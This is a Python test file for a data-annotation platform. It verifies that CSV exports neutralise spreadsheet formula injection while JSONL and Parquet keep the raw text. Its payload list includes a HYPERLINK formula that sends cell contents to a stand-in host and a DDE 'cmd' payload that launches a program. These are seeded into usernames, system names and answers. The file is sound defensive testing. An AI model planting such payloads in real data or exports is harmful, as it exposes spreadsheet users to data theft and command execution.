"""Every CSV the platform writes is safe to open in a spreadsheet: a text cell that
would run as a formula gets a leading quote, numbers stay numbers, and Parquet and
JSONL keep the raw text (common.csv_writer, docs/exports.md)."""

from __future__ import annotations

import csv
import io
import zipfile
from decimal import Decimal

import pandas as pd
import pyarrow as pa
import pytest
from django.test import Client
from django.urls import reverse

from analysis.services import agreement_report_compute, agreement_report_request, dataset_import
from annotation.models import PoolMembership, System
from annotation.services.assignment import assignment_claim
from annotation.services.submission import annotation_submit, assignment_flag
from common.csv_writer import cell, neutralise, neutralise_array, rows_csv
from exports.services import annotations_download, annotations_write, report_render
from tests.annotation.conftest import build_scenario

PAYLOADS = (
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3+cmd",
)
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def _cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"))))


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _assert_safe(rows: list[list[str]], where: str) -> None:
    for row in rows:
        for text in row:
            assert not (text[:1] in DANGEROUS and not _is_number(text)), (where, text)


def _assert_payloads_quoted(rows: list[list[str]], payloads: tuple[str, ...], where: str) -> None:
    cells = {text for row in rows for text in row}
    for payload in payloads:
        assert "'" + payload in cells, (where, payload)
        assert payload not in cells, (where, payload)


def test_the_rule_quotes_formulas_and_lets_numbers_through():
    for payload in PAYLOADS:
        assert neutralise(payload) == "'" + payload
    assert neutralise("\tSUM(A1)") == "'\tSUM(A1)" and neutralise("\r=1") == "'\r=1"
    for number in ("-0.25", "+3", "-1e-05", "-.5", "12", "3.0"):
        assert neutralise(number) == number
    for text in ("plain", "", "'=already", " =1", "a=b"):
        assert neutralise(text) == text
    # Typed numbers are never text: a negative estimate stays a number.
    assert cell(-0.25) == -0.25 and cell(-3) == -3 and cell(Decimal("-1.5")) == Decimal("-1.5")
    assert cell(None) == "" and cell(True) == "true" and cell(["-x"]) == '["-x"]'
    rows = _cells(rows_csv(["q", "=head"], [["-2+3+cmd", -0.25], [None, 1e-300]]))
    assert rows == [["q", "'=head"], ["'-2+3+cmd", "-0.25"], ["", "1e-300"]]


def test_the_arrow_path_applies_the_same_rule_as_the_python_path():
    values = [*PAYLOADS, "-0.25", "plain", None, "", "\tx", "-", "+1e5", "@", "x=1", "é=1"]
    for kind in (pa.string(), pa.large_string()):
        array = pa.array(values * 3, kind)
        for part in (array, array.slice(5, 20)):  # a batch slice starts mid-buffer
            expected = [None if v is None else neutralise(v) for v in part.to_pylist()]
            assert neutralise_array(part).to_pylist() == expected
    clean = pa.array(["plain", None, "-0.25"])
    assert neutralise_array(clean) is clean  # nothing to change: the column is reused
    numbers = pa.array([-0.25, None], pa.float64())
    assert neutralise_array(numbers) is numbers


@pytest.fixture
def poisoned(db, settings, tmp_path):
    """A single-output task whose system names, free-text answers, flag notes and
    annotator usernames carry the payloads."""
    settings.MEDIA_ROOT = str(tmp_path / "media")
    scenario = build_scenario(mode="single", n_prompts=4, n_systems=2, k=2, n_annotators=2)
    System.objects.filter(pk=scenario.systems[0].pk).update(name=PAYLOADS[0])
    System.objects.filter(pk=scenario.systems[1].pk).update(name=PAYLOADS[3])
    for annotator, name in zip(scenario.annotators, PAYLOADS[1:3], strict=True):
        annotator.username = name
        annotator.save(update_fields=["username"])
    membership = PoolMembership.objects.get(pool=scenario.pool, user=scenario.annotators[0])
    membership.external_worker_id = PAYLOADS[2]
    membership.save(update_fields=["external_worker_id"])
    flagged = False
    for n, annotator in enumerate(scenario.annotators):
        while (assignment := assignment_claim(actor=annotator, task=scenario.task)) is not None:
            if not flagged:
                assignment_flag(
                    actor=annotator, handle=assignment.handle, reason="other", note=PAYLOADS[1]
                )
                flagged = True
                continue
            annotation_submit(
                actor=annotator,
                handle=assignment.handle,
                answers={
                    "quality": {"A": 1 + (assignment.unit_id + n) % 5},
                    "has_error": {"A": n == 0},
                    "comment": PAYLOADS[assignment.unit_id % 4],
                },
            )
    return scenario


def test_the_annotations_csv_quotes_formulas_and_jsonl_parquet_keep_them(poisoned, tmp_path):
    # The lead's opt-in export by username, so annotator ids are the poisoned names.
    options = {"identity": "username"}
    download = annotations_download(
        project=poisoned.project,
        actor=poisoned.lead,
        task=poisoned.task,
        fmt="csv",
        options=options,
    )
    rows = _cells(b"".join(download.chunks))
    _assert_safe(rows, "annotations.csv")
    _assert_payloads_quoted(rows, PAYLOADS, "annotations.csv")
    # Numbers stay numbers: quality answers and timings parse as numbers.
    frame = pd.read_csv(
        io.BytesIO(
            b"".join(
                annotations_download(
                    project=poisoned.project, actor=poisoned.lead, task=poisoned.task, fmt="csv"
                ).chunks
            )
        )
    )
    assert pd.api.types.is_numeric_dtype(frame["answer.quality.A"])
    assert pd.api.types.is_numeric_dtype(frame["seconds_to_submit"])

    for fmt in ("jsonl", "parquet"):
        path = tmp_path / f"raw.{fmt}"
        annotations_write(
            path=path,
            fmt=fmt,
            project=poisoned.project,
            actor=poisoned.lead,
            task=poisoned.task,
            options=options,
        )
        table = pd.read_json(path, lines=True) if fmt == "jsonl" else pd.read_parquet(path)
        raw = set(table["system.A"]) | set(table["annotator"]) | set(table["flag_note"].dropna())
        raw |= set(table["answer.comment"].dropna())
        assert set(PAYLOADS) <= raw, fmt


def test_the_report_csv_zip_quotes_question_names_annotator_ids_and_systems(poisoned):
    report = agreement_report_request(
        actor=poisoned.lead,
        project=poisoned.project,
        task=poisoned.task,
        parameters={"n_bootstrap": 20, "min_shared_units": 1, "min_annotator_items": 1},
        enqueue=False,
    )
    report = agreement_report_compute(report_id=report.pk)
    assert report.status == "done", report.error
    _, _, body = report_render(report=report, fmt="csv_zip")
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        tables = {name: _cells(archive.read(name)) for name in archive.namelist()}
    for name, rows in tables.items():
        if name.endswith(".csv"):
            _assert_safe(rows, name)
    groups = {row[2] for row in tables["coefficients.csv"][1:]}
    assert {"'" + PAYLOADS[0], "'" + PAYLOADS[3]} <= groups  # the system breakdown


def test_a_dataset_report_quotes_question_names_labels_and_annotator_ids(project_roles):
    lines = ["unit,annotator,question,value,pool"]
    for unit in range(6):
        for n, annotator in enumerate(("@SUM(1+1)", "-2+3+cmd", "plain")):
            label = ("=HYPERLINK(1)", "ok")[(unit + n) % 2]
            lines.append(f"u{unit},{annotator},\"+cmd|' /C calc'!A0\",{label},=pool")
    dataset = dataset_import(
        actor=project_roles.lead,
        project=project_roles.project,
        name="poisoned",
        stream=io.BytesIO("\n".join(lines).encode()),
        fmt="csv",
    )
    report = agreement_report_request(
        actor=project_roles.lead,
        project=project_roles.project,
        dataset=dataset,
        parameters={"n_bootstrap": 20, "min_shared_units": 1, "min_annotator_items": 1},
        enqueue=False,
    )
    report = agreement_report_compute(report_id=report.pk)
    assert report.status == "done", report.error
    _, _, body = report_render(report=report, fmt="csv_zip")
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        tables = {n: _cells(archive.read(n)) for n in archive.namelist() if n.endswith(".csv")}
    for name, rows in tables.items():
        _assert_safe(rows, name)
    assert tables["questions.csv"][1][0] == "'+cmd|' /C calc'!A0"
    annotators = {row[0] for row in tables["annotators.csv"][1:]}
    assert annotators == {"'@SUM(1+1)", "'-2+3+cmd", "plain"}
    labels = {row[3] for row in tables["categories.csv"][1:]}
    assert "'=HYPERLINK(1)" in labels
    assert {row[2] for row in tables["coefficients.csv"][1:]} >= {"'=pool"}


def test_the_payouts_csv_quotes_usernames_and_worker_ids(poisoned):
    client = Client()
    client.force_login(poisoned.lead)
    url = reverse("task-payouts-csv", args=[poisoned.project.slug, poisoned.task.pk])
    rows = _cells(client.get(url).content)
    _assert_safe(rows, "payouts.csv")
    assert {row[0] for row in rows[1:]} == {"'" + PAYLOADS[1], "'" + PAYLOADS[2]}
    assert "'" + PAYLOADS[2] in {row[3] for row in rows[1:]}
